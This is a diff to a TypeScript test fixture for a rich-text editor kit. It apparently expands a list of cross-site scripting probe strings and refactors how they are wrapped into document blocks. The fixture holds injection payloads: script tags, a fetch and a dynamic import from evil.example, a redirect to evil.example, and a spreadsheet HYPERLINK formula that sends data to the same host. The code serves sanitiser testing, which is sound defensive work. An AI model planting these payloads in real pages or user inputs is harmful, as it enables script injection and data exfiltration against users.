@@ -2,7 +2,16 @@ import type { RichBlock, RichDoc } from '@mdi/contract/kit/rich-text.ts';
 
 /** Texts that would run, ask elsewhere or break out, were they ever taken for more than text. */
 
-const calls = ['alert(1)', 'window.__ran=1', 'fetch("https://evil.example/x")', 'print()'] as const;
+const calls = [
+  'alert(1)',
+  'window.__ran=1',
+  'fetch("https://evil.example/x")',
+  'print()',
+  'top.__ran=1',
+  'location="https://evil.example/"',
+  'import("https://evil.example/x.js")',
+  'setTimeout("window.__ran=1")',
+] as const;
 
 const shapes: readonly ((call: string) => string)[] = [
   (call) => `<script>${call}</script>`,
@@ -47,7 +56,7 @@ const shapes: readonly ((call: string) => string)[] = [
   (call) => `=HYPERLINK("https://evil.example/?${call}","x")`,
 ];
 
-/** All of them. */
+/** All of them, each another one. */
 export const hostile: readonly string[] = calls.flatMap((call) => shapes.map((shape) => shape(call)));
 
 /** Links that the server takes, and whose rest would break out of an attribute. */
@@ -80,14 +89,14 @@ const kinds: readonly ((text: string, at: number) => RichBlock)[] = [
   }),
 ];
 
-/** The bodies that these texts make, each in two of its kinds. */
-export const bodiesOf = (texts: readonly string[]): RichBlock[] =>
-  texts.flatMap((text, at) =>
-    [kinds[at % kinds.length], kinds[(at + 2) % kinds.length]].flatMap((kind) =>
-      kind ? [kind(text, at)] : [],
-    ),
-  );
+/** A document of each text: one of its kinds, which with the text is another one than all the others. */
+export const blockOf = (text: string, at: number): RichBlock => {
+  const kind = kinds[at % kinds.length] ?? kinds[0];
+  if (!kind) throw new Error('no kinds');
+  return kind(text, at);
+};
 
+/** Documents one after the other, as one. */
 export const docOf = (content: RichBlock[]): RichDoc => ({ type: 'doc', content });
 
 /** So many of a list at once. */
